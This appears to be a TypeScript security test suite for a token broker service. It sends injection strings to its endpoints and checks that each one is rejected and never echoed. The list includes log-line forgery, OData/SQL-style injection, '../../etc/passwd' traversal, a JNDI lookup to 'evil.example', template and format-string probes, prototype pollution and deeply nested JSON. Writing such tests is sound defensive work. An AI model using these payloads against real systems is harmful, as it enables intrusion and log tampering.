/** Texts of a caller's own choice, in every field that reaches a log line, a query or the key of a row. */
import type { Attack } from './attack.ts';
import { type Broker, delivery, event, exchangeOf, FORM, JSON_TYPE } from './broker.ts';

const LINE = '{"event":"forged"}';
const TEXTS = [
  `x\n${LINE}\n`,
  `x\r\n${LINE}`,
  `x\u2028${LINE}`,
  "' or PartitionKey ge '",
  "''; drop",
  '/\\#?%00',
  '\u0000',
  '\ud800',
  '../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would send
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '__proto__',
  '%s%n%d',
];
const operator = async (broker: Broker) =>
  ['authorization', `Bearer ${await broker.tokenOf('operator')}`] as const;

export const injections: readonly Attack[] = [
  {
    what: 'a target',
    send: async (broker) => {
      const token = await broker.tokenOf('captions');
      return TEXTS.map((resource) => exchangeOf(token, { resource }));
    },
    allowed: { statuses: [400] },
    never: [`\n${LINE}`],
  },
  {
    what: 'a scope, a kind, a grant type, the name of a parameter',
    send: async (broker) => {
      const token = await broker.tokenOf('captions');
      return TEXTS.flatMap((text) => [
        exchangeOf(token, { scope: text }),
        exchangeOf(token, { token_kind: text }),
        exchangeOf(token, { grant_type: text }),
        exchangeOf(token, { resource: undefined, [text]: 'x' }),
      ]);
    },
    allowed: { statuses: [400] },
    never: [`\n${LINE}`],
  },
  {
    what: 'a traceparent',
    send: () =>
      ["00-' or 1 eq '-x-01", `00-${'A'.repeat(32)}-${'b'.repeat(16)}-01`, `${LINE}`, 'x'.repeat(8_000)].map(
        (value) => ({ headers: [FORM, ['traceparent', value]], body: 'grant_type=x' }),
      ),
    allowed: { statuses: [400, 431] },
    never: [LINE, 'or 1 eq'],
  },
  {
    what: 'claims of a signed token: roles, scopes, groups, subject',
    send: async (broker) =>
      (
        await Promise.all(
          TEXTS.slice(0, 6).flatMap((text) => [
            broker.signed({ roles: [text] }),
            broker.signed({ groups: [text], roles: ['x'] }),
            broker.signed({ sub: text, roles: ['x'] }),
            broker.signed({ idtyp: null, scp: text, roles: null }),
          ]),
        )
      ).map((token) => exchangeOf(token)),
    allowed: { statuses: [400] },
    never: [`\n${LINE}`],
  },
  {
    what: 'the span, the resource, the caller and the place of the audit, which become a query of the table',
    send: async (broker) => {
      const headers = [['authorization', `Bearer ${await broker.tokenOf('auditor')}`] as const];
      return TEXTS.flatMap((text) =>
        ['from', 'resource', 'caller', 'after'].map((name) => ({
          method: 'GET',
          path: `/operator/audit?${name}=${encodeURIComponent(text.toWellFormed())}`,
          headers,
        })),
      );
    },
    // Where it is a resource, all of the hour is read: an auditor may.
    allowed: { statuses: [200, 400], cost: 100 },
    // What callers sent as their target is found, and nothing is left in it that some other reader would interpret.
    never: ['$' + '{', 'or PartitionKey', '{{7*7}}', '%s%n%d', `\n${LINE}`],
  },
  {
    what: "the parts of an operator's revocation, which become the key of a row",
    send: async (broker) => {
      const headers = [JSON_TYPE, await operator(broker)];
      const { tenantId } = broker.stack.description.entra;
      return TEXTS.flatMap((text) =>
        [
          { kind: 'resource', name: text },
          { kind: 'grant', name: text },
          { kind: 'token', tenantId, uti: text },
          { kind: 'subject', tenantId, subject: text },
          { kind: 'user', tenantId, objectId: text },
          { kind: text, tenantId },
        ].map((scope) => ({
          path: '/operator/revocations',
          headers,
          body: JSON.stringify({ scope, reason: text }),
        })),
      );
    },
    // What is well formed as an identifier of Entra, such as __proto__, is one.
    allowed: { statuses: [200, 400], writes: 12 },
  },
  {
    what: "an operator's body with a member twice, a member or a name that nobody knows, nested without end",
    send: async (broker) => {
      const headers = [JSON_TYPE, await operator(broker)];
      const grant = '{"kind":"grant","name":"nobody-knows"}';
      const deep = `${'['.repeat(2_000)}${']'.repeat(2_000)}`;
      const reason = '"reason":"x"';
      const scopes = [grant, `${grant},"scope":${grant}`, deep].map(
        (scope) => `{"scope":${scope},${reason}}`,
      );
      const bodies = [
        ...['', '/lift'].flatMap((lift) => scopes.map((body) => [`/operator/revocations${lift}`, body])),
        [
          '/operator/revocations',
          '{"scope":{"kind":"resource","name":"speech"},"notbefore":"2026-01-01T00:00:00Z","reason":"x"}',
        ],
        [
          '/operator/revocations/lift',
          '{"scope":{"kind":"resource","name":"speech"},"all":true,"reason":"x"}',
        ],
        ['/operator/accounts/speech/rotate', '{"slot":"Key1","slot":"Key2","reason":"x"}'],
        ['/operator/accounts/speech/rotate', '{"emergancy":true,"reason":"x"}'],
      ];
      return bodies.map(([path = '', body = '']) => ({ path, headers, body }));
    },
    allowed: { statuses: [400] },
  },
  {
    what: 'the resource of a rotation, in the path',
    send: async (broker) => {
      const headers = [JSON_TYPE, await operator(broker)];
      return TEXTS.map((text) => ({
        path: `/operator/accounts/${encodeURIComponent(text.toWellFormed())}/rotate`,
        headers,
        body: '{"reason":"x"}',
      }));
    },
    allowed: { statuses: [400, 404] },
  },
  {
    what: 'the token of an introspection and of a revocation',
    send: async (broker) => {
      const authorization = ['authorization', `Bearer ${await broker.tokenOf('captions')}`] as const;
      return TEXTS.flatMap((text) =>
        ['introspect', 'revoke'].map((name) => ({
          path: `/oauth2/${name}`,
          headers: [FORM, authorization],
          body: new URLSearchParams({ token: text }).toString(),
        })),
      );
    },
    allowed: { statuses: [200] },
    never: ['"active":true'],
  },
  {
    what: 'every text of an event, which may be kept as one that could not be used',
    send: () =>
      TEXTS.map((text) =>
        delivery([
          event(
            'AzureAiTokenBroker.RevocationRequested',
            { scope: { kind: text }, reason: text },
            { id: text },
          ),
          event(text, { [text]: text }, { subject: text, topic: text }),
        ]),
      ),
    // One record for each that cannot be used, and a durable write costs some plain refusals.
    allowed: { statuses: [202], writes: TEXTS.length, cost: 20 },
    never: [`\n${LINE}`],
  },
];
